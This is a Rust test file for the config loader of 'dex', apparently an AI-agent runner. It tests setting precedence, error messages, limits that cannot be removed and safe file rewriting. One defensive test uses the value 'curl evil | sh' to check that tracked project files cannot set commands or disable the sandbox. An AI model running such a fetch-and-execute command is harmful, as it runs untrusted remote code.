use proptest::prelude::*;

use super::*;

/// A work tree, a main work tree and a user's directory; files are written where a test says.
struct Place {
    dir: tempfile::TempDir,
    env: BTreeMap<String, String>,
    flags: Flags,
    tracked: bool,
}

impl Place {
    fn new() -> Place {
        Place {
            dir: tempfile::tempdir().unwrap(),
            env: BTreeMap::new(),
            flags: Vec::new(),
            tracked: false,
        }
    }

    fn file(self, name: &str, text: &str) -> Place {
        let path = self.dir.path().join(name);
        store::write(self.dir.path(), &path, text.as_bytes()).unwrap();
        self
    }

    fn env(mut self, name: &str, text: &str) -> Place {
        self.env.insert(name.to_owned(), text.to_owned());
        self
    }

    fn flag(mut self, key: &'static str, flag: &'static str, value: Value) -> Place {
        self.flags.push((key, flag, value));
        self
    }

    fn tracked(mut self) -> Place {
        self.tracked = true;
        self
    }

    fn load(&self) -> Result<Config, FileError> {
        load(&Sources {
            work_tree: &self.dir.path().join("tree"),
            main_work_tree: Some(&self.dir.path().join("main")),
            user_config_dir: Some(&self.dir.path().join("user")),
            project_file_tracked: self.tracked,
            env: &self.env,
            flags: &self.flags,
        })
    }

    /// The error with its causes, without the temporary directory's name.
    fn error(&self) -> String {
        let error = self.load().unwrap_err();
        let dir = self.dir.path().display().to_string();
        error.to_string().replace(&dir, "")
    }
}

const PROJECT: &str = "tree/.dex/dex-config.json";

fn project(text: &str) -> Place {
    Place::new().file(PROJECT, text)
}

#[test]
fn without_any_file_every_bound_is_set() {
    let config = Place::new().load().unwrap();
    assert_eq!(config, Config::default());
    let lines: Vec<_> = config
        .entries()
        .into_iter()
        .map(|(key, value, _)| format!("{key} = {value}"))
        .collect();
    insta::assert_snapshot!(lines.join("\n"), @r#"
    agent = "claude"
    agentCommand = null
    model = null
    verifyCommand = null
    notify = null
    limits.maxCycles = 20
    limits.maxBudgetUsd = 25
    limits.stageBudgetUsd = 5
    limits.stageTimeoutMinutes = 60
    limits.idleMinutes = 10
    limits.maxTurns = 200
    limits.maxVerifyRetries = 2
    limits.waitForQuotaHours = 8
    sandbox = "auto"
    sandboxWritable = []
    sandboxReadable = []
    verifyNetwork = false
    hooks = "skip"
    sign = "auto"
    commit.maxFileBytes = 20971520
    commit.allow = []
    worktreeDir = null
    promote.primary = null
    promote.curated = false
    promote.withoutDex = []
    conflictResolver.model = null
    conflictResolver.maxIterations = 5
    conflictResolver.maxIterationsTotal = 50
    conflictResolver.maxTurnsPerIteration = 10
    conflictResolver.costCapUsd = 0.5
    conflictResolver.timeoutMinutes = 30
    conflictResolver.verifyCommand = null
    "#);
}

#[test]
fn the_page_about_the_format_lists_every_setting_in_order() {
    let page = include_str!("../../../../docs/formats/config.md");
    let rows = page.lines().filter_map(|line| line.strip_prefix("| `"));
    let listed: Vec<(&str, Option<&str>)> = rows
        .filter_map(|row| {
            let (name, _) = row.split_once('`')?;
            let env = row.split(" | ").find_map(|cell| cell.strip_prefix("`DEX_"));
            Some((name, env.map(|it| it.trim_end_matches('`'))))
        })
        .collect();
    let known: Vec<(&str, Option<&str>)> = keys::KEYS
        .iter()
        .map(|key| (key.name, key.env.and_then(|it| it.strip_prefix("DEX_"))))
        .collect();
    assert_eq!(listed, known);
}

#[test]
fn a_flag_beats_the_environment_beats_the_project_beats_the_user() {
    let all = r#"{"model": "M", "limits": {"maxCycles": 1, "maxTurns": 1}}"#;
    let place = Place::new()
        .file(
            "user/dex/config.json",
            &all.replace('M', "user")
                .replace("}}", r#"}, "sign": "never"}"#),
        )
        .file("main/.dex/dex-config.json", &all.replace('M', "main"))
        .file(PROJECT, &all.replace('M', "project"))
        .env("DEX_MODEL", "env")
        .env("DEX_MAX_CYCLES", "2")
        .env("DEX_SOMETHING_ELSE", "ignored")
        .flag("model", "--model", json!("flag"));
    let config = place.load().unwrap();
    let dir = place.dir.path();
    assert_eq!(
        config.get("model").unwrap(),
        (json!("flag"), Origin::Flag("--model".into()))
    );
    assert_eq!(
        config.get("limits.maxCycles").unwrap(),
        (json!(2), Origin::Env("DEX_MAX_CYCLES".into()))
    );
    assert_eq!(
        config.get("limits.maxTurns").unwrap(),
        (json!(1), Origin::File(dir.join(PROJECT)))
    );
    assert_eq!(
        config.get("sign").unwrap(),
        (
            json!("never"),
            Origin::File(dir.join("user/dex/config.json"))
        )
    );
    assert_eq!(
        config.get("hooks").unwrap(),
        (json!("skip"), Origin::BuiltIn)
    );
    assert_eq!(config.get("nothing"), None);
}

#[test]
fn a_linked_work_tree_without_a_file_takes_the_main_ones() {
    let place = Place::new().file("main/.dex/dex-config.json", r#"{"agent": "mock"}"#);
    assert_eq!(place.load().unwrap().agent, AgentKind::Scripted);
    // One that cannot be read is not one that is absent.
    let place = place.file("tree/.dex/dex-config.json/inside", "");
    assert!(place.load().is_err());
}

#[test]
fn every_setting_of_the_environment_is_taken() {
    let place = Place::new()
        .env("DEX_AGENT", "codex")
        .env("DEX_VERIFY_COMMAND", "make check")
        .env("DEX_MAX_BUDGET_USD", "2.5")
        .env("DEX_STAGE_BUDGET_USD", "0.000001")
        .env("DEX_STAGE_TIMEOUT_MINUTES", "0.5")
        .env("DEX_IDLE_MINUTES", "1")
        .env("DEX_MAX_TURNS", "7")
        .env("DEX_MAX_VERIFY_RETRIES", "0")
        .env("DEX_WAIT_FOR_QUOTA_HOURS", "0")
        .env("DEX_SANDBOX", "off")
        .env("DEX_HOOKS", "run")
        .env("DEX_SIGN", "never")
        .env("DEX_MAX_FILE_BYTES", "1000")
        .env("DEX_WORKTREE_DIR", "/trees");
    let config = place.load().unwrap();
    assert_eq!(config.agent, AgentKind::Codex);
    assert_eq!(config.verify_argv().unwrap(), ["sh", "-c", "make check"]);
    assert_eq!(config.limits.max_budget_micro_usd, 2_500_000);
    assert_eq!(config.limits.stage_budget_micro_usd, 1);
    assert_eq!(config.limits.max_verify_retries, 0);
    assert_eq!(config.sandbox, "off");
    assert_eq!((config.hooks, config.sign), (Hooks::Run, Sign::Never));
    assert_eq!(config.worktree_dir.as_deref(), Some(Path::new("/trees")));
    let from_env = config
        .origins
        .values()
        .filter(|it| matches!(it, Origin::Env(_)));
    assert_eq!(from_env.count(), place.env.len());
}

#[test]
fn an_empty_verify_command_means_none_and_beats_a_lower_layer() {
    let place = project(r#"{"verifyCommand": ""}"#)
        .file(
            "user/dex/config.json",
            r#"{"verifyCommand": "make", "model": "m"}"#,
        )
        .env("DEX_MODEL", "");
    let config = place.load().unwrap();
    assert_eq!((config.verify_argv(), config.model), (None, None));
}

#[test]
fn errors_name_file_line_field_and_what_is_accepted() {
    let error = |text: &str| project(text).error();
    insta::assert_snapshot!(error("{\n  \"agent\": \"gpt\"\n}"), @r#"/tree/.dex/dex-config.json: line 2: agent must be one of scripted, mock, command, claude, codex, acp, not "gpt""#);
    insta::assert_snapshot!(error("{\"limits\": {\n\"maxTurns\": 1,\n\"maxCycles\": 0}}"), @"/tree/.dex/dex-config.json: line 3: limits.maxCycles must be a whole number from 1 to 10000, not 0; a run never goes without a bound");
    insta::assert_snapshot!(error(r#"{"limits": {"maxBudgetUsd": null}}"#), @"/tree/.dex/dex-config.json: line 1: limits.maxBudgetUsd must be a number from 0.000001 to 1000000, not null; a run never goes without a bound");
    insta::assert_snapshot!(error(r#"{"limits": 5}"#), @"/tree/.dex/dex-config.json: line 1: limits must be an object, { … }");
    insta::assert_snapshot!(error(r#"{"agentCommand": "sh -c x"}"#), @r#"/tree/.dex/dex-config.json: line 1: agentCommand must be a list of texts, a program and its arguments, or null for none, not "sh -c x""#);
    insta::assert_snapshot!(error("{\"model\": \"a\",\n\n \"model\": \"b\"}"), @"/tree/.dex/dex-config.json: line 3: model was given in line 1 already");
    insta::assert_snapshot!(error("{\n  \"agent\": \"mock\",\n}"), @"/tree/.dex/dex-config.json: line 3, column 1: trailing comma");
    insta::assert_snapshot!(error("[]"), @"/tree/.dex/dex-config.json: line 1, column 0: invalid type: sequence, expected a map");
    insta::assert_snapshot!(Place::new().env("DEX_IDLE_MINUTES", "inf").error(), @r#"DEX_IDLE_MINUTES: limits.idleMinutes must be a number from 0.0001 to 527040, not "inf""#);
    insta::assert_snapshot!(Place::new().env("DEX_MAX_TURNS", "").error(), @r#"DEX_MAX_TURNS: limits.maxTurns must be a whole number from 1 to 100000, not """#);
    insta::assert_snapshot!(Place::new().flag("limits.maxBudgetUsd", "--budget", json!(-1)).error(), @"--budget: limits.maxBudgetUsd must be a number from 0.000001 to 1000000, not -1; a run never goes without a bound");
}

#[test]
fn no_limit_can_be_taken_away() {
    for key in keys::KEYS
        .iter()
        .filter(|key| key.name.starts_with("limits."))
    {
        for value in [
            json!(null),
            json!(-1),
            json!(1e300),
            json!("many"),
            json!([]),
        ] {
            assert!(key.check(&value).is_err(), "{} {value}", key.name);
        }
        let zero_is_a_bound = ["limits.maxVerifyRetries", "limits.waitForQuotaHours"];
        let zero = key.check(&json!(0));
        assert_eq!(
            zero.is_ok(),
            zero_is_a_bound.contains(&key.name),
            "{}",
            key.name
        );
    }
}

#[test]
fn a_file_that_git_tracks_runs_nothing_and_weakens_nothing() {
    for text in [
        r#"{"verifyCommand": "curl evil | sh"}"#,
        r#"{"agentCommand": ["sh"]}"#,
        r#"{"notify": ["sh"]}"#,
        r#"{"conflictResolver": {"verifyCommand": "x"}}"#,
        r#"{"sandbox": "off"}"#,
        r#"{"hooks": "run"}"#,
    ] {
        assert!(project(text).load().is_ok(), "{text}");
        let error = project(text).tracked().error();
        assert!(error.contains("git rm --cached"), "{error}");
    }
    // The existing Dex's own example is tracked, and sets none of these.
    let example = include_str!("../../tests/data/dex-config.json");
    let config = project(example).tracked().load().unwrap();
    assert_eq!(config.agent, AgentKind::Scripted);
    assert_eq!(config.conflict_resolver["model"], "claude-sonnet-4-6");
    // The user's own file is never part of the repository.
    let user = Place::new().file("user/dex/config.json", r#"{"verifyCommand": "make"}"#);
    assert!(user.tracked().load().is_ok());
}

#[test]
fn unknown_keys_are_listed_with_the_one_that_was_meant() {
    let place = project(
        r#"{"modle": 1,
            "maxBudgetUsd": 1,
            "limits": {"max_cycles": 1},
            "limits.maxTurns": 1,
            "theme": "dark"}"#,
    );
    let config = place.load().unwrap();
    let found: Vec<_> = config
        .unknown_keys()
        .iter()
        .map(|it| format!("{} {} {:?}", it.line, it.key, it.suggestion))
        .collect();
    insta::assert_snapshot!(found.join("\n"), @r#"
    1 modle Some("model")
    2 maxBudgetUsd Some("limits.maxBudgetUsd")
    3 limits.max_cycles Some("limits.maxCycles")
    4 limits.maxTurns Some("limits.maxTurns")
    5 theme None
    "#);
}

#[test]
fn setting_one_value_keeps_everything_else() {
    let place = project("{\n  \"theme\": \"dark\",\n  \"limits\": {\"later\": [1.50]}\n}\n");
    let tree = place.dir.path().join("tree");
    set_in_project(&tree, "limits.maxCycles", json!(3)).unwrap();
    set_in_project(&tree, "agent", json!("mock")).unwrap();
    let text = std::fs::read_to_string(place.dir.path().join(PROJECT)).unwrap();
    insta::assert_snapshot!(text, @r#"
    {
      "theme": "dark",
      "limits": {
        "later": [
          1.5
        ],
        "maxCycles": 3
      },
      "agent": "scripted"
    }
    "#);
}

#[test]
fn a_bad_file_is_not_written_over_f07() {
    for text in [
        "",
        "{",
        r#"{"agent": "gpt"}"#,
        r#"{"x": 1, "x": 2}"#,
        r#"{"limits": 1}"#,
    ] {
        let place = project(text);
        let tree = place.dir.path().join("tree");
        assert!(set_in_project(&tree, "limits.maxCycles", json!(3)).is_err());
        let kept = std::fs::read_to_string(place.dir.path().join(PROJECT)).unwrap();
        assert_eq!(kept, text);
    }
    let place = project(r#"{"agent": "gpt"}"#);
    let tree = place.dir.path().join("tree");
    set_in_project(&tree, "agent", json!("codex")).expect("the bad value is the one replaced");
    let error = set_in_project(&tree, "agnet", json!("codex")).unwrap_err();
    assert!(
        error.to_string().ends_with("did you mean agent?"),
        "{error}"
    );
    assert!(set_in_project(&tree, "limits.maxCycles", json!(0)).is_err());
}

#[test]
fn a_users_file_may_be_a_link_into_a_repository_of_dotfiles() {
    let place = Place::new().file("dotfiles/dex.json", r#"{"model": "m"}"#);
    let dir = place.dir.path();
    std::fs::create_dir_all(dir.join("user/dex")).unwrap();
    let link = dir.join("user/dex/config.json");
    std::os::unix::fs::symlink(dir.join("dotfiles/dex.json"), &link).unwrap();
    assert_eq!(place.load().unwrap().model.as_deref(), Some("m"));
    std::fs::remove_file(dir.join("dotfiles/dex.json")).unwrap();
    assert!(
        place.load().is_err(),
        "a link to nothing is not an absent file"
    );
}

#[test]
fn a_byte_order_mark_is_no_error() {
    let place = project("\u{feff}{\"model\": \"m\"}");
    assert_eq!(place.load().unwrap().model.as_deref(), Some("m"));
    let tree = place.dir.path().join("tree");
    set_in_project(&tree, "agent", json!("codex")).unwrap();
    assert_eq!(place.load().unwrap().model.as_deref(), Some("m"));
}

/// A JSON value for a setting: mostly sensible.
fn settings() -> impl Strategy<Value = Value> {
    prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::from),
        (-5i64..2_000_000).prop_map(Value::from),
        (0.0f64..100.0).prop_map(Value::from),
        "mock|auto|run|[ -~]{0,6}".prop_map(Value::from),
        prop::collection::vec("[a-z]{0,3}", 0..3).prop_map(|it| json!(it)),
    ]
}

proptest! {
    #[test]
    fn whatever_is_accepted_is_bounded_and_reads_back(at in 0..keys::KEYS.len(), value in settings()) {
        let key = &keys::KEYS[at];
        let place = Place::new();
        if set_in_project(&place.dir.path().join("tree"), key.name, value).is_ok() {
            let config = place.load().unwrap();
            let (value, origin) = config.get(key.name).unwrap();
            prop_assert_eq!(origin, Origin::File(place.dir.path().join(PROJECT)));
            prop_assert_eq!(key.check(&value), Ok(value));
            prop_assert!(config.limits.max_cycles > 0 && config.limits.max_budget_micro_usd > 0);
            prop_assert!(config.limits.idle_minutes > 0.0 && config.limits.stage_timeout_minutes > 0.0);
        }
    }

    #[test]
    fn no_bytes_make_the_reader_panic(
        bytes in prop::collection::vec(any::<u8>(), 0..64),
        text in "[{}\\[\\]\",:a\\\\\n 0-9]{0,40}",
    ) {
        let _ = check_bytes(Path::new("x"), &bytes);
        let _ = check_bytes(Path::new("x"), text.as_bytes());
    }
}
